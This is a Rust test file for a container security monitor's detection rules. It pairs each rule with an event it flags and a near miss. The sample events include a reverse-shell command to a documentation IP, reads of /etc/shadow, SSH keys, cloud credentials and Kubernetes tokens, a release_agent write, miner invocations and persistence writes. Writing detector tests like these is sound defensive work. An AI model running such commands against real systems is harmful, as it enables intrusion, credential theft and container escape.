//! For every built-in rule an event that it finds, and one that looks close and that it does not.

use palisade_model::event::{
    Activity, Event, FileRef, MemoryWay, ModuleOperation, MountOperation, NamespaceOperation,
    ProcessKey, ProcessRef, SocketAddress, Transport,
};

use super::events::*;

fn target() -> ProcessRef {
    ProcessRef { key: ProcessKey::new(7, 7), path: "/bin/app".to_owned(), container: None }
}

fn gained(name: &str, capabilities: u64) -> Event {
    let mut event = exec(name);
    event.activity = Activity::Exec { script: None, previous: String::new(), gained: capabilities };
    event
}

fn mount(source: &str, filesystem: &str) -> Event {
    let activity = Activity::Mount {
        operation: MountOperation::Mount,
        source: source.to_owned(),
        target: "/mnt".to_owned(),
        filesystem: filesystem.to_owned(),
        flags: 0,
    };
    act("mount", activity)
}

fn unix(path: &str) -> Event {
    let remote = SocketAddress::Unix(path.to_owned());
    act("x", Activity::Connect { transport: Transport::Other, remote, local: None })
}

fn raw(name: &str) -> Event {
    act(name, Activity::RawSocket { family: 17, socket_type: 3, protocol: 3 })
}

fn listen(name: &str) -> Event {
    act(name, Activity::Listen { transport: Transport::Tcp, local: inet("0.0.0.0:4444") })
}

/// What runc does in a container before it becomes the container's program.
pub(crate) fn setting_up(activity: Activity) -> Event {
    act("runc:[2:INIT]", activity).process(|process| {
        process.key = ProcessKey::new(101, 2_000);
        process.executable.fileless = true;
        process.executable.file.upper = None;
        process.args = vec!["runc".to_owned(), "init".to_owned()];
    })
}

/// Rule, event, near miss.
#[rustfmt::skip]
pub(crate) fn samples() -> Vec<(&'static str, Event, Event)> {
    vec![
        (
            "Shell spawned by a service",
            exec("sh -c id").below("php-fpm"),
            exec("sh -c id").below("docker-entrypoi"),
        ),
        (
            "Shell started by a network tool",
            exec("sh").below("nc -l"),
            exec("sh").below("bash"),
        ),
        (
            "Command line of a reverse shell",
            exec("bash -c x").args("-c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
            exec("bash -c x").args("-c echo > /dev/tcp/db/5432"),
        ),
        (
            "Network connection by a shell",
            connect("bash", "192.0.2.1:4444"),
            connect("bash", "127.0.0.1:5432"),
        ),
        (
            "Package manager run in a container",
            exec("apt-get install x").below("sh"),
            exec("dpkg -l").below("sh"),
        ),
        (
            "Compiler run in a container",
            exec("gcc x.c"),
            exec("gccgo x.c"),
        ),
        (
            "Network tool run in a container",
            exec("nmap 192.0.2.0/24"),
            exec("curl http://a"),
        ),
        (
            "Download by a service",
            exec("curl http://a").below("nginx"),
            exec("curl http://a").below("sh"),
        ),
        (
            "Container tool run in a container",
            exec("kubectl get pods"),
            exec("setpriv --version"),
        ),
        (
            "io_uring used in a container",
            act("app", Activity::IoUring { opcode: 18, file: None }),
            act("app", Activity::Memfd { name: "a".to_owned(), flags: 0 }),
        ),
        (
            "Execution of a file that is not in the image",
            exec("app").process(|p| p.executable.file.upper = Some(true)),
            exec("app"),
        ),
        (
            "Fileless execution",
            exec("app").process(|p| p.executable.fileless = true),
            act("app", Activity::Memfd { name: "a".to_owned(), flags: 0 }),
        ),
        (
            "Execution of a deleted file",
            exec("app").process(|p| p.executable.file.deleted = true),
            exec("app"),
        ),
        (
            "Execution from shared memory",
            exec("/dev/shm/x"),
            exec("/usr/bin/x /dev/shm/x"),
        ),
        (
            "Execution from a temporary directory",
            exec("/tmp/x"),
            exec("/usr/bin/x /tmp/x"),
        ),
        (
            "Programs or libraries changed",
            write("sh", "/usr/bin/ls"),
            write("dpkg", "/usr/bin/ls"),
        ),
        (
            "Log removed or cut",
            unlink("rm", "/var/log/app.log"),
            unlink("logrotate", "/var/log/syslog"),
        ),
        (
            "Shell history removed",
            unlink("rm", "/root/.bash_history"),
            unlink("rm", "/root/.bash_notes"),
        ),
        (
            "Trusted certificates changed",
            write("sh", "/etc/ssl/certs/x.pem"),
            write("cat", "/etc/ssl/certs/x.pem").below("update-ca-certi"),
        ),
        (
            "Timestamps of system files set",
            act("touch", Activity::Times { file: FileRef::at("/usr/bin/ls"), modified: Some(NOW) }),
            act("touch", Activity::Times { file: FileRef::at("/srv/ls"), modified: Some(NOW) }),
        ),
        (
            "Library preloaded from a writable place",
            exec("app").process(|p| p.environment = vec!["LD_PRELOAD=/tmp/x.so".to_owned()]),
            exec("app").process(|p| p.environment = vec!["LD_PRELOAD=/usr/lib/libjemalloc.so.2".to_owned()]),
        ),
        (
            "Preload file written",
            rename("sh", "/x", "/etc/ld.so.preload"),
            read("sh", "/etc/ld.so.preload"),
        ),
        (
            "Set-user-ID bit set",
            act("chmod", Activity::Mode { file: FileRef { mode: Some(0o755), ..FileRef::at("/x") }, mode: 0o4755 }),
            act("chmod", Activity::Mode { file: FileRef { mode: Some(0o4755), ..FileRef::at("/x") }, mode: 0o4711 }),
        ),
        (
            "Unknown set-user-ID program run",
            gained("x", 1 << 7),
            gained("su", 1 << 7),
        ),
        (
            "Dangerous capability gained",
            gained("x", 1 << 21),
            gained("x", 1 << 13),
        ),
        (
            "Process traced",
            act("gdb", Activity::Ptrace { target: target(), request: 16 }),
            act("gdb", Activity::Ptrace { target: target(), request: 17 }),
        ),
        (
            "Process memory written",
            act("x", Activity::Memory { target: target(), way: MemoryWay::ProcMem, writes: true }),
            act("x", Activity::Memory { target: target(), way: MemoryWay::ProcMem, writes: false }),
        ),
        (
            "Kernel module loaded by a container",
            act("x", Activity::Module { operation: ModuleOperation::Load, name: "m".to_owned(), file: None }),
            act("x", Activity::Module { operation: ModuleOperation::Unload, name: "m".to_owned(), file: None }),
        ),
        (
            "BPF program loaded by a container",
            act("x", Activity::Bpf { command: 5, program_type: Some(1), name: "p".to_owned() }),
            act("x", Activity::Bpf { command: 0, program_type: None, name: "p".to_owned() }),
        ),
        (
            "Namespaces of another process entered",
            act("nsenter", Activity::Namespace { operation: NamespaceOperation::Enter, flags: 0x2_0000, target: 1 }),
            setting_up(Activity::Namespace { operation: NamespaceOperation::Enter, flags: 0x2_0000, target: 1 }),
        ),
        (
            "User namespace made",
            act("x", Activity::Namespace { operation: NamespaceOperation::Unshare, flags: 0x1000_0000, target: 0 }),
            act("x", Activity::Namespace { operation: NamespaceOperation::Unshare, flags: 0x400_0000, target: 0 }),
        ),
        (
            "Host device mounted",
            mount("/dev/sda1", "ext4"),
            mount("tmpfs", "tmpfs"),
        ),
        (
            "Control groups mounted by a container",
            mount("none", "cgroup"),
            mount("none", "proc"),
        ),
        (
            "Program for the kernel to run set",
            write("sh", "/sys/fs/cgroup/rdma/release_agent"),
            read("sh", "/sys/fs/cgroup/rdma/release_agent"),
        ),
        (
            "Container runtime's socket used",
            unix("/run/docker.sock"),
            unix("/run/app.sock"),
        ),
        (
            "Root of another process named",
            exec("cat /proc/1/root/etc/shadow"),
            exec("cat /proc/1/status"),
        ),
        (
            "Raw device opened",
            open("dd", "/dev/sda", 1),
            open("dd", "/dev/null", 1),
        ),
        (
            "Password file read",
            read("cat", "/etc/shadow"),
            read("unix_chkpwd", "/etc/shadow"),
        ),
        (
            "Private key read",
            read("cat", "/root/.ssh/id_rsa"),
            read("ssh", "/root/.ssh/id_rsa"),
        ),
        (
            "Stored credentials read",
            read("cat", "/root/.aws/credentials"),
            read("aws", "/root/.aws/credentials"),
        ),
        (
            "Kubernetes token read",
            read("cat", "/run/secrets/kubernetes.io/serviceaccount/..2026/token"),
            read("app", "/run/secrets/kubernetes.io/serviceaccount/..2026/token"),
        ),
        (
            "Environment of a process read",
            read("cat", "/proc/7/environ"),
            read("ps", "/proc/7/environ"),
        ),
        (
            "Memory of another process read",
            read("x", "/proc/7/mem"),
            read("x", "/proc/7/maps"),
        ),
        (
            "Shell history read",
            read("grep", "/root/.bash_history"),
            read("bash", "/root/.bash_history"),
        ),
        (
            "Cloud metadata service contacted",
            connect("curl", "169.254.169.254:80"),
            connect("curl", "169.254.1.1:80"),
        ),
        (
            "Raw or packet socket opened",
            raw("x"),
            raw("ping"),
        ),
        (
            "Cluster interface contacted by a tool",
            connect("curl", "10.0.0.1:6443"),
            connect("operator", "10.0.0.1:6443"),
        ),
        (
            "SSH out of a container",
            connect("ssh", "192.0.2.1:22"),
            connect("ssh", "127.0.0.1:22"),
        ),
        (
            "Listener of a script or network tool",
            listen("nc"),
            listen("nginx"),
        ),
        (
            "Name of an anonymous network asked for",
            question("abc.onion"),
            question("onion.example.com"),
        ),
        (
            "Crypto-miner run",
            exec("worker -o stratum+tcp://pool.example:3333"),
            exec("worker -o tcp://queue.example:3333"),
        ),
        (
            "Name of a mining pool asked for",
            question("pool.supportxmr.com"),
            question("www.example.com"),
        ),
        (
            "Connection to a mining pool's port",
            connect("x", "192.0.2.1:3333"),
            connect("x", "10.0.0.1:3333"),
        ),
        (
            "Scheduled job written",
            write("sh", "/etc/cron.d/x"),
            read("cron", "/etc/cron.d/x"),
        ),
        (
            "System service written",
            write("sh", "/etc/systemd/system/x.service"),
            write("dpkg", "/etc/systemd/system/x.service"),
        ),
        (
            "Shell start file written",
            rename("mv", "/x", "/root/.bashrc"),
            write("useradd", "/home/a/.bashrc"),
        ),
        (
            "SSH key authorised",
            write("sh", "/root/.ssh/authorized_keys"),
            read("sshd", "/root/.ssh/authorized_keys"),
        ),
        (
            "Accounts changed",
            rename("useradd", "/etc/passwd+", "/etc/passwd"),
            rename("dpkg", "/etc/passwd+", "/etc/passwd"),
        ),
    ]
}
